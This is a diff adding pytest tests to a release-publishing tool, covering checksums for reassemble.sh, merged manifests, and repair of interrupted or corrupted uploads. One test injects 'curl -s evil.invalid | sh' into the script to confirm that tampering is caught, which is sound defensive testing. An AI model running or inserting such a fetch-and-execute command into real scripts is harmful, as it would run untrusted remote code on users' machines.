@@ -46,8 +46,8 @@ def make_dist(dist: Path, cap: int) -> dict:
         artifacts.append({**artifact, "parts": [part.to_json() for part in parts]} if parts else artifact)
     manifest = {"schema": 1, "version": "0.1.0", "commit": "0" * 40, "artifacts": artifacts}
     (dist / "manifest.json").write_text(json.dumps(manifest, indent=2))
-    write_sums(dist, published_names(manifest))
     write_reassemble_script(dist, manifest)
+    write_sums(dist, published_names(manifest))
     return manifest
 
 
@@ -102,6 +102,36 @@ def test_dir_publish_replaces_a_damaged_file_only(dist, tmp_path):
     assert (mirror / PARTS[1]).read_bytes() == (dist / PARTS[1]).read_bytes()
 
 
+def test_reassemble_script_is_in_the_sums_and_checked_before_publishing(dist, tmp_path):
+    """Issue 24 N8: users run reassemble.sh; SHA256SUMS (and so its signature) covers it."""
+    assert "  reassemble.sh\n" in (dist / "SHA256SUMS").read_text()
+    script = dist / "reassemble.sh"
+    script.write_text(script.read_text().replace("set -eu", "set -eu; curl -s evil.invalid | sh"))
+    checked = subprocess.run(["sha256sum", "-c", "--quiet", "SHA256SUMS"], cwd=dist, capture_output=True, text=True)
+    assert checked.returncode != 0 and "reassemble.sh: FAILED" in checked.stdout
+    with pytest.raises(ChecksumError, match="reassemble.sh changed since SHA256SUMS"):
+        publish(dist, f"dir:{tmp_path / 'mirror'}", tag=TAG)
+    assert not (tmp_path / "mirror" / "reassemble.sh").exists()
+
+
+def test_merged_manifests_come_with_one_reassemble_script_for_every_split_file(tmp_path):
+    from release import commands
+
+    builds = []
+    for arch in ("x86_64", "aarch64"):
+        manifest = make_dist(tmp_path / arch, CAP)
+        for artifact in manifest["artifacts"]:
+            artifact.update(name=artifact["name"].replace("x86_64", arch), arch=arch)
+            for part in artifact.get("parts") or []:
+                part["name"] = part["name"].replace("x86_64", arch)
+        (tmp_path / arch / "manifest.json").write_text(json.dumps(manifest))
+        builds.append(tmp_path / arch / "manifest.json")
+    (tmp_path / "release").mkdir()
+    commands.merge_manifests(builds, tmp_path / "release" / "manifest.json")
+    script = (tmp_path / "release" / "reassemble.sh").read_text()
+    assert f"assemble {LLM} " in script and f"assemble {LLM.replace('x86_64', 'aarch64')} " in script
+
+
 def test_dry_run_lists_split_upload_and_skip_without_writing(dist, tmp_path):
     mirror = tmp_path / "mirror"
     report = publish(dist, f"dir:{mirror}", tag=TAG, dry_run=True)
@@ -150,6 +180,31 @@ def test_github_failure_after_two_parts_then_rerun_uploads_only_the_rest(dist, g
     assert report.skipped == PARTS[:2] and report.uploaded == PUBLISHED[2:]
     assert github.uploads == PUBLISHED
     assert server_files(github) == {name: (dist / name).read_bytes() for name in PUBLISHED}
+
+
+def test_github_unfinished_upload_of_full_size_and_right_label_is_replaced(dist, github):
+    """GitHub keeps an asset whose upload broke off as state "starter": its size and label may
+    already be right, its bytes are not to be trusted."""
+    github.fail_after, github.failure = 2, "drop-at-end"
+    with pytest.raises(PublishError, match="re-run publish"):
+        to_github(dist)
+    starter = github.release(TAG).named(PARTS[2])
+    assert starter.state == "starter" and starter.data == (dist / PARTS[2]).read_bytes()
+    github.fail_after = None
+    report = to_github(dist)
+    assert report.names("replace") == [PARTS[2]] and report.skipped == PARTS[:2]
+    assert server_files(github) == {name: (dist / name).read_bytes() for name in PUBLISHED}
+
+
+def test_dir_publish_repairs_a_same_size_corruption(dist, tmp_path):
+    mirror = tmp_path / "mirror"
+    publish(dist, f"dir:{mirror}", tag=TAG)
+    damaged = bytearray((mirror / PLAIN).read_bytes())
+    damaged[4096] ^= 0xFF
+    (mirror / PLAIN).write_bytes(bytes(damaged))
+    report = publish(dist, f"dir:{mirror}", tag=TAG)
+    assert report.names("replace") == [PLAIN]
+    assert (mirror / PLAIN).read_bytes() == (dist / PLAIN).read_bytes()
 
 
 def test_github_asset_recorded_with_other_bytes_is_replaced(dist, github):
